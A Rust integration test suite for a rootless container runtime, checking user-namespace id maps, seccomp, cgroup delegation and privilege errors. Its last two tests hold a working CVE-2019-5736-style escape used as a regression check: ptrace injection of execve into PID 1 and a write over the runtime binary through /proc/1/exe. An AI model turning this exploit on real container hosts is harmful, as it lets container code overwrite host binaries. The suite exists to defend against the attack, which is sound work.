//! Integration tests: rootless rt, run by an unprivileged user made for each test (useradd, with
//! subordinate id ranges of its own). What the kernel shows is checked from the host: the id maps
//! and credentials in /proc, the owner of files the container makes, the cgroup files.

mod common;

use common::*;
use serde_json::{json, Value};
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// useradd and userdel lock /etc/passwd: one at a time within this binary.
static USERDB: Mutex<()> = Mutex::new(());
static SEQ: AtomicUsize = AtomicUsize::new(0);

/// Size of each user's subordinate uid and gid range.
const SUB_COUNT: u32 = 65536;

/// An unprivileged user with its own subordinate ranges, a world-readable directory holding a
/// copy of rt and a bundle it owns, and an XDG_RUNTIME_DIR. Everything goes on drop: the
/// user's containers, their processes and test cgroups, the directory, the user.
struct User {
    name: String,
    uid: u32,
    gid: u32,
    sub_start: u32,
    dir: PathBuf,
    /// Container ids to delete and cgroup names (under /rt-test) to remove on drop.
    ids: Vec<String>,
    cgroups: Vec<String>,
}

impl User {
    fn new() -> User {
        let n = SEQ.fetch_add(1, Ordering::Relaxed);
        let name = format!("rtrl{}x{n}", std::process::id());
        let sub_start = 400_000 + (n as u32) * SUB_COUNT;
        {
            let _db = USERDB.lock().unwrap_or_else(|e| e.into_inner());
            let st = Command::new("useradd")
                .args(["-M", "-U", "-s", "/bin/false"])
                // No automatic subordinate ranges: the test gives its own.
                .args(["-K", "SUB_UID_COUNT=0", "-K", "SUB_GID_COUNT=0"])
                .arg(&name)
                .status()
                .expect("run useradd");
            assert!(st.success(), "useradd {name}");
            let range = format!("{sub_start}-{}", sub_start + SUB_COUNT - 1);
            let st = Command::new("usermod")
                .args(["--add-subuids", &range, "--add-subgids", &range, &name])
                .status()
                .expect("run usermod");
            if !st.success() {
                let _ = Command::new("userdel").arg(&name).status();
                panic!("usermod --add-subuids {range} {name}");
            }
        }
        let id = |flag: &str| -> u32 {
            let out = Command::new("id").args([flag, &name]).output().unwrap();
            String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
        };
        let (uid, gid) = (id("-u"), id("-g"));
        let mut user = User {
            name,
            uid,
            gid,
            sub_start,
            dir: PathBuf::new(),
            ids: Vec::new(),
            cgroups: Vec::new(),
        };
        // Under /tmp, not the target directory: the user must reach rt and its bundle, and a
        // CI checkout may sit below a directory only root can enter.
        let dir = PathBuf::from(format!("/tmp/{}", user.name));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir(&dir).unwrap();
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
        user.dir = dir.clone();
        if fs::hard_link(rt_bin(), dir.join("rt")).is_err() {
            fs::copy(rt_bin(), dir.join("rt")).unwrap();
        }
        for sub in ["bundle", "xdg"] {
            fs::create_dir(dir.join(sub)).unwrap();
            user.chown(&dir.join(sub));
        }
        fs::set_permissions(dir.join("xdg"), fs::Permissions::from_mode(0o700)).unwrap();
        let st = Command::new("cp")
            .arg("-a")
            .arg(rootfs())
            .arg(dir.join("bundle/rootfs"))
            .status()
            .unwrap();
        assert!(st.success(), "copy the rootfs");
        user
    }

    fn chown(&self, path: &Path) {
        std::os::unix::fs::chown(path, Some(self.uid), Some(self.gid)).unwrap();
    }

    fn bundle(&self) -> PathBuf {
        self.dir.join("bundle")
    }

    /// A command run as this user (no supplementary groups), with its own XDG_RUNTIME_DIR.
    fn command(&self, program: &Path) -> Command {
        let mut cmd = Command::new(program);
        cmd.uid(self.uid)
            .gid(self.gid)
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
            .env("HOME", &self.dir)
            .env("USER", &self.name)
            .env("XDG_RUNTIME_DIR", self.dir.join("xdg"))
            .current_dir(self.bundle());
        cmd
    }

    /// `rt ARGS` as this user, with its default state root.
    fn rt(&self, args: &[&str]) -> Output {
        let mut cmd = self.command(&self.dir.join("rt"));
        cmd.args(args);
        run_cmd(&mut cmd, &self.dir.join("scratch"))
    }

    /// `rt spec --rootless` as this user, adjusted for a test: `args` as the process, cgroups
    /// under the test prefix (never the caller's own cgroup).
    fn spec(&self, args: &[&str]) -> Value {
        let _ = fs::remove_file(self.bundle().join("config.json"));
        self.rt(&["spec", "--rootless"]).ok();
        let mut c: Value =
            serde_json::from_slice(&fs::read(self.bundle().join("config.json")).unwrap()).unwrap();
        c["process"]["terminal"] = json!(false);
        c["process"]["args"] = json!(args);
        c["linux"]["cgroupsPath"] = json!(format!("/{CGROUP_PREFIX}/{}", self.name));
        c
    }

    fn write(&self, config: &Value) {
        let path = self.bundle().join("config.json");
        fs::write(&path, serde_json::to_vec_pretty(config).unwrap()).unwrap();
    }

    /// A container id of this test, deleted on drop.
    fn id(&mut self, name: &str) -> String {
        let id = format!("{}-{name}", self.name);
        self.ids.push(id.clone());
        id
    }

    fn state(&self, id: &str) -> Value {
        let out = self.rt(&["state", id]).ok();
        serde_json::from_str(&out.stdout).unwrap()
    }

    /// Make /rt-test/<name> in the given v1 controllers and hand it to this user (the directory,
    /// cgroup.procs and tasks), as a manager delegates a subtree.
    fn delegate(&mut self, name: &str, controllers: &[&str]) -> String {
        let cg = format!("{}-{name}", self.name);
        self.cgroups.push(cg.clone());
        for c in controllers {
            let dir = Path::new("/sys/fs/cgroup")
                .join(c)
                .join(CGROUP_PREFIX)
                .join(&cg);
            fs::create_dir_all(&dir).unwrap();
            for p in [dir.clone(), dir.join("cgroup.procs"), dir.join("tasks")] {
                self.chown(&p);
            }
        }
        format!("/{CGROUP_PREFIX}/{cg}")
    }

    /// Nothing of container `id` is left: no state directory, no cgroup named after the user.
    #[track_caller]
    fn assert_nothing_left(&self, id: &str) {
        let state = self.dir.join("xdg/rt").join(id);
        assert!(!state.exists(), "{} left", state.display());
        for root in cgroup_roots() {
            let cg = root.join(CGROUP_PREFIX).join(&self.name);
            assert!(!cg.exists(), "{} left", cg.display());
        }
    }
}

impl Drop for User {
    fn drop(&mut self) {
        for id in &self.ids {
            let _ = self.rt(&["delete", "--force", id]);
        }
        // Whatever the user still runs (a container rt failed to delete) ends by its PID.
        if let Ok(out) = Command::new("pgrep")
            .args(["-U", &self.uid.to_string()])
            .output()
        {
            for pid in String::from_utf8_lossy(&out.stdout).split_whitespace() {
                kill_pid(pid.parse().unwrap_or(0));
            }
        }
        for cg in self.cgroups.iter().chain([&self.name]) {
            remove_test_cgroup(cg);
        }
        let _ = fs::remove_dir_all(&self.dir);
        let _db = USERDB.lock().unwrap_or_else(|e| e.into_inner());
        let _ = Command::new("userdel").arg(&self.name).status();
    }
}

/// The v1 hierarchies (and the unified one) of this host, without the machine's own tree.
fn cgroup_roots() -> Vec<PathBuf> {
    fs::read_dir("/sys/fs/cgroup")
        .unwrap()
        .flatten()
        .filter(|e| e.file_name() != "process_api" && e.path().is_dir())
        .map(|e| e.path())
        .collect()
}

/// The host-side uid and gid lines of a process: "real effective saved fs".
fn ids(pid: i32) -> (String, String) {
    let norm = |s: String| s.split_whitespace().collect::<Vec<_>>().join(" ");
    (norm(proc_status(pid, "Uid")), norm(proc_status(pid, "Gid")))
}

fn map_lines(pid: i32, file: &str) -> Vec<String> {
    fs::read_to_string(format!("/proc/{pid}/{file}"))
        .unwrap()
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect()
}

/// A host directory the container's processes may write, bound at /mnt (the rootfs is root's: the
/// container cannot make a mount point in it).
fn data_dir(user: &User, config: &mut Value, mode: u32) -> PathBuf {
    let dir = user.dir.join("data");
    fs::create_dir(&dir).unwrap();
    user.chown(&dir);
    fs::set_permissions(&dir, fs::Permissions::from_mode(mode)).unwrap();
    config["mounts"].as_array_mut().unwrap().push(json!({
        "destination": "/mnt", "type": "bind", "source": dir, "options": ["rbind", "rw"]
    }));
    dir
}

#[test]
fn run_maps_root_to_the_caller() {
    let mut user = User::new();
    let id = user.id("run");
    let mut c = user.spec(&[
        "sh",
        "-c",
        "id -u; cat /proc/self/uid_map /proc/self/gid_map /proc/sys/kernel/shm_rmid_forced; touch /mnt/made; exit 7",
    ]);
    // A sysctl of the container's own IPC namespace is the user's to set.
    c["linux"]["sysctl"] = json!({"kernel.shm_rmid_forced": "1"});
    assert_eq!(
        c["linux"]["uidMappings"],
        json!([{"containerID": 0, "hostID": user.uid, "size": 1}])
    );
    let data = data_dir(&user, &mut c, 0o755);
    user.write(&c);
    let out = user.rt(&["run", &id]);
    assert_eq!(out.code(), 7, "{out:?}");
    let lines: Vec<String> = out
        .stdout
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect();
    assert_eq!(
        lines,
        [
            "0".to_string(),
            format!("0 {} 1", user.uid),
            format!("0 {} 1", user.gid),
            "1".to_string()
        ],
        "{out:?}"
    );
    // The container's root is the user outside.
    let made = fs::metadata(data.join("made")).unwrap();
    assert_eq!((made.uid(), made.gid()), (user.uid, user.gid));
    user.assert_nothing_left(&id);
}

#[test]
fn lifecycle_as_the_user() {
    let mut user = User::new();
    let id = user.id("life");
    let mut c = user.spec(&["sleep", "1000"]);
    // A filter the kernel shows as Seccomp: 2, loaded with CAP_SYS_ADMIN of the user namespace.
    c["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64"],
        "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]
    });
    user.write(&c);
    user.rt(&["create", &id]).ok();
    // The default state root of a rootless caller.
    let state_file = user.dir.join("xdg/rt").join(&id).join("state.json");
    assert_eq!(fs::metadata(&state_file).unwrap().uid(), user.uid);
    let st = user.state(&id);
    assert_eq!(st["status"], "created");
    let pid = st["pid"].as_i64().unwrap() as i32;
    let me = |n: u32| format!("{n} {n} {n} {n}");
    assert_eq!(ids(pid), (me(user.uid), me(user.gid)));
    assert_eq!(map_lines(pid, "uid_map"), [format!("0 {} 1", user.uid)]);
    assert_eq!(map_lines(pid, "setgroups"), ["deny"]);

    user.rt(&["start", &id]).ok();
    assert_eq!(user.state(&id)["status"], "running");
    assert_eq!(proc_status(pid, "Seccomp"), "2");
    // exec joins every namespace, the PID one included (in two steps, as the runtime may not
    // join a PID namespace of the user's namespace itself).
    let out = user.rt(&[
        "exec",
        &id,
        "sh",
        "-c",
        "id -u; echo $$; mkdir /tmp/x; exit 3",
    ]);
    assert_eq!(out.code(), 3, "{out:?}");
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines, ["0", "2"], "{out:?}");
    assert!(out.stderr.contains("Operation not permitted"), "{out:?}");
    assert_eq!(user.rt(&["exec", &id, "/nonexistent"]).code(), 255);
    let detached = user.rt(&["exec", "-d", &id, "sleep", "1000"]).ok();
    assert!(detached.stdout.is_empty(), "{detached:?}");
    // No cgroup is delegated: ps finds the processes by PID namespace.
    let ps = user.rt(&["ps", "--format", "json", &id]).ok();
    let listed: Vec<i32> = serde_json::from_str(&ps.stdout).unwrap();
    assert_eq!(listed.len(), 2, "{ps:?}");
    assert!(listed.contains(&pid), "{ps:?}");
    for p in &listed {
        assert_eq!(proc_status(*p, "NSpid").split_whitespace().count(), 2);
    }
    // No cgroup is delegated: kill --all finds the processes by PID namespace.
    user.rt(&["kill", "--all", &id, "KILL"]).ok();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while user.state(&id)["status"] != "stopped" {
        assert!(std::time::Instant::now() < deadline, "still running");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    user.rt(&["delete", &id]).ok();
    user.assert_nothing_left(&id);
}

#[test]
fn multi_range_mapping_through_newuidmap() {
    let mut user = User::new();
    let id = user.id("multi");
    let mut c = user.spec(&["sh", "-c", "touch /mnt/by-1000; exec sleep 1000"]);
    let map = |own: u32| {
        json!([
            {"containerID": 0, "hostID": own, "size": 1},
            {"containerID": 1, "hostID": user.sub_start, "size": SUB_COUNT}
        ])
    };
    c["linux"]["uidMappings"] = map(user.uid);
    c["linux"]["gidMappings"] = map(user.gid);
    c["process"]["user"] = json!({"uid": 1000, "gid": 1000, "additionalGids": [10]});
    let data = data_dir(&user, &mut c, 0o1777);
    user.write(&c);
    user.rt(&["run", "-d", &id]).ok();
    let pid = user.state(&id)["pid"].as_i64().unwrap() as i32;
    let host = |n: u32| user.sub_start + n - 1;
    let all = |n: u32| format!("{n} {n} {n} {n}");
    assert_eq!(ids(pid), (all(host(1000)), all(host(1000))));
    assert_eq!(proc_status(pid, "Groups"), host(10).to_string());
    assert_eq!(
        map_lines(pid, "uid_map"),
        [
            format!("0 {} 1", user.uid),
            format!("1 {} {SUB_COUNT}", user.sub_start)
        ]
    );
    assert_eq!(map_lines(pid, "setgroups"), ["allow"]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !data.join("by-1000").exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "no file from the container"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let made = fs::metadata(data.join("by-1000")).unwrap();
    assert_eq!((made.uid(), made.gid()), (host(1000), host(1000)));
    let out = user.rt(&["exec", "--user", "5:5", &id, "id"]).ok();
    assert!(out.stdout.starts_with("uid=5 gid=5"), "{out:?}");
    user.rt(&["delete", "--force", &id]).ok();
    user.assert_nothing_left(&id);
}

#[test]
fn delegated_cgroups_take_limits() {
    let mut user = User::new();
    let id = user.id("limits");
    let parent = user.delegate("deleg", &["pids", "memory"]);
    let mut c = user.spec(&["sleep", "1000"]);
    c["linux"]["cgroupsPath"] = json!(format!("{parent}/c"));
    c["linux"]["resources"] = json!({"pids": {"limit": 42}, "memory": {"limit": 67108864}});
    user.write(&c);
    user.rt(&["create", &id]).ok();
    let pid = user.state(&id)["pid"].as_i64().unwrap() as i32;
    let leaf = |ctrl: &str| {
        Path::new("/sys/fs/cgroup")
            .join(ctrl)
            .join(&parent[1..])
            .join("c")
    };
    assert_eq!(
        fs::read_to_string(leaf("pids").join("pids.max"))
            .unwrap()
            .trim(),
        "42"
    );
    assert_eq!(
        fs::read_to_string(leaf("memory").join("memory.limit_in_bytes"))
            .unwrap()
            .trim(),
        "67108864"
    );
    for ctrl in ["pids", "memory"] {
        let procs = fs::read_to_string(leaf(ctrl).join("cgroup.procs")).unwrap();
        assert_eq!(procs.trim(), pid.to_string(), "{ctrl}");
    }
    // Not delegated: the container simply has no cgroup there.
    assert!(!leaf("cpu").exists());
    // With cgroups, kill --all finds the processes.
    user.rt(&["kill", "--all", &id, "KILL"]).ok();
    user.rt(&["delete", "--force", &id]).ok();
    assert!(!leaf("pids").exists() && !leaf("memory").exists());

    // A limit on a controller that is not delegated cannot be set: a clear error, nothing left.
    c["linux"]["resources"] = json!({"cpu": {"shares": 512}});
    user.write(&c);
    let out = user
        .rt(&["run", &id])
        .fails_with("linux.resources.cpu: cannot be set by a rootless container: the cpu cgroup");
    assert!(
        out.stderr
            .contains(&format!("{parent}/c is not delegated to this user")),
        "{out:?}"
    );
    assert!(!leaf("pids").exists());
    user.assert_nothing_left(&id);
}

#[test]
fn what_needs_privilege_fails_clearly() {
    let mut user = User::new();
    let id = user.id("errors");
    let base = user.spec(&["true"]);
    let cases: Vec<(Value, &str)> = vec![
        (
            json!({"process": {"user": {"uid": 0, "gid": 0, "additionalGids": [10]}}}),
            "process.user.additionalGids: supplementary groups cannot be set in this user namespace",
        ),
        (
            json!({"linux": {"uidMappings": [{"containerID": 0, "hostID": 0, "size": 1}]}}),
            "linux.uidMappings: newuidmap",
        ),
        (
            json!({"linux": {"resources": {"memory": {"limit": 67108864}}}}),
            "linux.resources.memory: cannot be set by a rootless container",
        ),
        (
            json!({"linux": {"sysctl": {"vm.swappiness": "10"}}}),
            "linux.sysctl \"vm.swappiness\": not a namespaced sysctl",
        ),
    ];
    for (patch, error) in cases {
        let mut c = base.clone();
        merge(&mut c, &patch);
        user.write(&c);
        user.rt(&["run", &id]).fails_with(error);
        user.assert_nothing_left(&id);
    }
    user.write(&base);
    user.rt(&["--systemd-cgroup", "run", &id])
        .fails_with("--systemd-cgroup: rootless containers need the user's systemd instance");
    user.assert_nothing_left(&id);
}

/// Overlay `patch` onto `v`: objects merge key by key, anything else replaces.
fn merge(v: &mut Value, patch: &Value) {
    match (v, patch) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, pv) in b {
                merge(a.entry(k.clone()).or_insert(Value::Null), pv);
            }
        }
        (slot, p) => *slot = p.clone(),
    }
}

/// The variable that turns `attacker_in_container` (this test binary, copied into a container)
/// into the attack of `cve_2019_5736_through_a_rootless_containers_entrypoint`.
const ATTACK_VAR: &str = "RT_ROOTLESS_EXE_ATTACK";

/// Found in review (CVE-2019-5736, rootless): `create` and `run` re-execute from a read-only or
/// sealed image only as root (cli::Cli::enters_container), on the ground that a non-dumpable
/// init is out of a user namespace's reach. But the image chooses the process: with
/// `/proc/self/exe` as its entrypoint, the init execs the runtime's binary again, now dumpable
/// and the container's root's own: PID 1 is the user's rt binary (here stalled opening a fifo
/// of the image for `--log`). A process the user `rt exec`s (a health check, say) opens
/// /proc/1/exe, makes PID 1 exec something else (ptrace: same user, same namespace) and writes
/// the binary once nothing runs it. When the user owns that binary (a rootless install under
/// $HOME, a build tree), the next rt the user runs is the container's code. Asserted: the
/// bytes of the user's copy of rt are unchanged.
#[test]
fn cve_2019_5736_through_a_rootless_containers_entrypoint() {
    let mut user = User::new();
    // The user's own copy (User::new may hard-link the build's binary: never corrupt that one).
    let bin = user.dir.join("rt");
    fs::remove_file(&bin).unwrap();
    fs::copy(rt_bin(), &bin).unwrap();
    user.chown(&bin);
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    let original = fs::read(&bin).unwrap();
    let root = user.bundle().join("rootfs");
    fs::copy(std::env::current_exe().unwrap(), root.join("attacker")).unwrap();
    fs::set_permissions(root.join("attacker"), fs::Permissions::from_mode(0o755)).unwrap();
    nix::unistd::mkfifo(
        &root.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    user.chown(&root.join("fifo"));
    let id = user.id("exe");
    let mut c = user.spec(&["/proc/self/exe", "--log", "/fifo", "features"]);
    c["root"]["readonly"] = json!(false);
    user.write(&c);
    user.rt(&["create", &id]).ok();
    user.rt(&["start", &id]).ok();
    let pid = user.state(&id)["pid"].as_i64().unwrap() as i32;
    // PID 1 runs the runtime's image again (blocked opening /fifo): the user's binary itself
    // before the fix, a sealed copy of it now.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let runs_rt = || {
        fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|c| c.windows(5).any(|w| w == b"--log"))
    };
    while !runs_rt() {
        assert!(
            std::time::Instant::now() < deadline,
            "PID 1 never ran the runtime's image"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    eprintln!(
        "PID 1 runs {:?}",
        fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default()
    );
    let seen = user.rt(&[
        "exec",
        "-e",
        &format!("{ATTACK_VAR}=1"),
        &id,
        "/attacker",
        "--exact",
        "attacker_in_container",
        "--ignored",
        "--nocapture",
        "--test-threads=1",
    ]);
    let now = fs::read(&bin).unwrap();
    // Put the binary back for the cleanup's `rt delete` (nothing runs it any more if it changed).
    if now != original {
        let _ = fs::write(&bin, &original);
    }
    assert!(
        now == original,
        "the container wrote the user's rt binary {} (it starts with {:?})\nit saw: {}{}",
        bin.display(),
        String::from_utf8_lossy(&now[..24]),
        seen.stdout,
        seen.stderr
    );
}

/// The in-container half of `cve_2019_5736_through_a_rootless_containers_entrypoint` (does
/// nothing unless ATTACK_VAR is set): hold PID 1's exe, make PID 1 exec /bin/sleep through
/// ptrace, then write through the held descriptor as soon as the kernel allows it.
#[test]
#[ignore = "run inside a container by cve_2019_5736_through_a_rootless_containers_entrypoint"]
#[cfg(target_arch = "x86_64")]
fn attacker_in_container() {
    use std::os::fd::AsRawFd;
    use std::os::unix::fs::FileExt;
    if std::env::var_os(ATTACK_VAR).is_none() {
        return;
    }
    let held = fs::File::open("/proc/1/exe").expect("open /proc/1/exe");
    println!("holding PID 1's exe: {:?}", fs::read_link("/proc/1/exe"));
    let null = std::ptr::null_mut::<libc::c_void>();
    // Safety: ptrace requests on PID 1 with valid buffers; this process is single-threaded here
    // (--test-threads=1) and is the tracer throughout.
    unsafe {
        if libc::ptrace(libc::PTRACE_ATTACH, 1 as libc::pid_t, null, null) != 0 {
            println!("ptrace attach: {}", std::io::Error::last_os_error());
            return;
        }
        let mut st = 0;
        libc::waitpid(1, &mut st, libc::__WALL);
        let mut r: libc::user_regs_struct = std::mem::zeroed();
        libc::ptrace(
            libc::PTRACE_GETREGS,
            1 as libc::pid_t,
            null,
            &mut r as *mut _ as *mut libc::c_void,
        );
        // "/bin/sleep", "1000" and argv on PID 1's stack, well below what it uses.
        let sp = (r.rsp - 4096) & !15;
        let mut buf = [0u8; 56];
        buf[..10].copy_from_slice(b"/bin/sleep");
        buf[16..20].copy_from_slice(b"1000");
        buf[32..40].copy_from_slice(&sp.to_ne_bytes());
        buf[40..48].copy_from_slice(&(sp + 16).to_ne_bytes());
        for (i, w) in buf.chunks(8).enumerate() {
            let word = u64::from_ne_bytes(w.try_into().unwrap());
            libc::ptrace(
                libc::PTRACE_POKEDATA,
                1 as libc::pid_t,
                (sp + 8 * i as u64) as *mut libc::c_void,
                word as *mut libc::c_void,
            );
        }
        // Back onto the interrupted `syscall` instruction, as execve.
        r.rax = libc::SYS_execve as u64;
        r.orig_rax = u64::MAX;
        r.rdi = sp;
        r.rsi = sp + 32;
        r.rdx = 0;
        r.rip -= 2;
        r.rsp = sp - 256;
        libc::ptrace(
            libc::PTRACE_SETREGS,
            1 as libc::pid_t,
            null,
            &mut r as *mut _ as *mut libc::c_void,
        );
        libc::ptrace(libc::PTRACE_DETACH, 1 as libc::pid_t, null, null);
    }
    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
    for _ in 0..1_000_000 {
        match fs::OpenOptions::new().write(true).open(&path) {
            Ok(f) => {
                let r = f.write_at(b"PWNED-BY-CONTAINER", 0);
                println!("write through PID 1's exe: {r:?}");
                return;
            }
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => continue,
            Err(e) => {
                println!("open PID 1's exe for writing: {e}");
                return;
            }
        }
    }
    println!("the binary stayed busy");
}
